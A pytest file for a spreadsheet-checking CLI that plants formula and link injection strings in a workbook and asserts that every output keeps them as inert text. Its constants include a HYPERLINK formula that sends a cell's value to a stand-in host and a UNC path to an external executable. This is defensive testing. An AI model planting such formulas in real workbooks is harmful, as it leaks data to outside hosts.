"""Input text is text in every output: no formula, no hyperlink made from what the workbook says."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from click.testing import CliRunner

import hostile_corpus as hc
from lkj_excel.cli import main

OFFICE = '=HYPERLINK("http://x.invalid/?"&A1,"Klik")'
URL = "https://x.invalid/unduh"
UNC = r"external:\\host\share\x.exe"
INJECTED = (OFFICE, URL, UNC)


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


@pytest.fixture()
def injected(tmp_path: Path) -> Path:
    edits = {
        hc.INFO: hc._set_cell("B1", _inline("B1", OFFICE)),
        "xl/worksheets/sheet10.xml": lambda x: hc._set_cell("C7", _inline("C7", UNC))(
            hc._set_cell("C6", _inline("C6", URL))(x)
        ),
    }
    with zipfile.ZipFile(hc.SAMPLE) as z:
        wb = z.read("xl/workbook.xml").decode()
    assert 'name="Tabel 3.2" sheetId="10"' in wb  # sheet10.xml is Tabel 3.2
    return hc.patch(tmp_path / "injeksi.xlsx", edits)


def _formulas_and_links(xlsx: Path) -> tuple[list[str], list[str], str]:
    """Formulas of every worksheet, external link targets, and all the text the workbook holds."""
    formulas, links, texts = [], [], []
    with zipfile.ZipFile(xlsx) as z:
        for name in z.namelist():
            data = z.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                formulas += re.findall(r"<f[^>]*>(.*?)</f>", data, re.S)
                links += re.findall(r'<hyperlink [^>]*?ref="[^"]*"[^>]*?r:id="[^"]*"', data)
            if name.endswith(".rels"):
                links += re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', data)
            if name in ("xl/sharedStrings.xml",) or name.startswith("xl/worksheets/sheet"):
                texts.append(data)
    return formulas, links, "\n".join(texts)


def test_injection_strings_stay_text(injected: Path, tmp_path: Path) -> None:
    out, rep, rep_html, rep_json = (tmp_path / n for n in ("c.xlsx", "r.xlsx", "r.html", "r.json"))
    runner = CliRunner()
    for extra in (["-o", str(out), "--report", str(rep)], ["--no-output", "--report", str(rep_html)]):
        r = runner.invoke(main, ["check", str(injected), *extra])
        assert r.exit_code in (0, 1), r.output
    r = runner.invoke(main, ["check", str(injected), "--no-output", "--report", str(rep_json)])
    batch = tmp_path / "batch"
    r = runner.invoke(main, ["check", str(injected), "--out-dir", str(batch), "--jobs", "1"])
    assert r.exit_code in (0, 1), r.output
    rekap = next(batch.glob("rekap*.xlsx"))
    written = [out, rep, rekap, *batch.glob("*terkoreksi*.xlsx")]
    assert len(written) == 4
    for xlsx in written:
        formulas, links, _ = _formulas_and_links(xlsx)
        for f in formulas:
            assert not any(s in f for s in ("HYPERLINK", "x.invalid", "host")), (xlsx.name, f)
        assert links == [], (xlsx.name, links)
    # the strings are there, as text
    _, _, text = _formulas_and_links(rep)
    assert escape(OFFICE).replace('"', "&quot;") in text or escape(OFFICE) in text
    _, _, text = _formulas_and_links(out)
    assert escape(URL) in text and escape(UNC) in text
    html = rep_html.read_text(encoding="utf-8")
    assert 'href="http' not in html and '<a href="external' not in html
    assert escape(OFFICE).replace('"', "&quot;") in html or "&lt;" not in OFFICE
    data = json.loads(rep_json.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
